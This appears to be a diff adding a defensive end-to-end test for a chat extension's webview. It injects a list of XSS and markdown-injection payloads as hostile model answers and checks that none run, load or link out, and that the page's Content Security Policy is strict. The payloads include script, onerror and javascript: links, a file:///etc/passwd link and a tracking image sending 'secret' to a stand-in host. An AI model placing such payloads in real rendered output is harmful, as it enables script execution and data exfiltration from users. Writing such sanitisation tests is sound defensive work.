@@ -1,0 +1,68 @@
+import assert from 'node:assert/strict';
+import { journeys } from '../support/journey.ts';
+
+const journey = journeys();
+
+/** What a hostile model, or a file that it was shown, may write into an answer. */
+const hostile: string[] = [
+  '<script>window.hit = "script"</script>',
+  '<img src="https://evil.invalid/a.png" onerror="window.hit = 1">',
+  '<svg onload="window.hit = 1"><circle /></svg>',
+  '<iframe src="https://evil.invalid"></iframe>',
+  '<style>body { display: none }</style>',
+  '<form action="https://evil.invalid"><input name="a"></form>',
+  '<meta http-equiv="refresh" content="0;url=https://evil.invalid">',
+  '<base href="https://evil.invalid/">',
+  '<a href="javascript:window.hit=1">click</a>',
+  '[click](javascript:window.hit=1)',
+  '[click](JaVaScRiPt:window.hit=1)',
+  '[click](data:text/html,<script>window.hit=1</script>)',
+  '[click](command:workbench.action.quit)',
+  '[click](vscode://evil.invalid)',
+  '[click](file:///etc/passwd)',
+  '![tracking](https://evil.invalid/?q=secret)',
+  '![x](data:image/svg+xml,<svg onload="window.hit=1">)',
+  '[ref]: https://evil.invalid/pixel.png\n\n![ref]',
+  '```html\n<script>window.hit = 1</script>\n```',
+  '<details open ontoggle="window.hit = 1">x</details>',
+  '<math><mtext><script>window.hit = 1</script></mtext></math>',
+  '`` `<img src=x onerror=window.hit=1>` ``',
+];
+
+journey(
+  'nothing that a hostile answer holds runs, loads or leads anywhere',
+  async ({ workbench, endpoint, context }) => {
+    const loaded: string[] = [];
+    context.on('request', request => {
+      if (request.url().includes('evil.invalid')) loaded.push(request.url());
+    });
+    const chat = await workbench.openChat();
+    for (const text of hostile) {
+      endpoint.faults.next({ kind: 'script', content: [{ type: 'text', text: `Before\n\n${text}\n\nAfter` }] });
+      await chat.ask('What do you say?');
+      await chat.idle();
+      assert.deepEqual(await chat.frame.evaluate(traces), { hit: false, active: [], handlers: [], links: [] }, text);
+      await workbench.command('Marginalia: New Conversation');
+      await chat.answers.first().waitFor({ state: 'detached' });
+    }
+    assert.deepEqual(loaded, []);
+  },
+);
+
+/** What must not be on the page; looked for there. */
+const traces = `({
+  hit: 'hit' in globalThis,
+  active: [...document.querySelectorAll('[role=log] :is(script, img, svg, iframe, style, form, input, meta, base, object, embed, math)')]
+    .map(element => element.outerHTML),
+  handlers: [...document.querySelectorAll('[role=log] *')].flatMap(element =>
+    [...element.attributes].filter(attribute => attribute.name.startsWith('on')).map(attribute => attribute.name)),
+  links: [...document.querySelectorAll('[role=log] a')].map(link => link.getAttribute('href') ?? '')
+    .filter(href => !/^(https?|mailto):/.test(href)),
+})`;
+
+journey('the page forbids everything that is not its own', async ({ workbench }) => {
+  const chat = await workbench.openChat();
+  const policy = await chat.frame.locator('meta[http-equiv="Content-Security-Policy"]').getAttribute('content');
+  assert.match(policy ?? '', /^default-src 'none'/);
+  assert.doesNotMatch(policy ?? '', /unsafe|\*(?!\.vscode-cdn\.net)|data:/);
+});
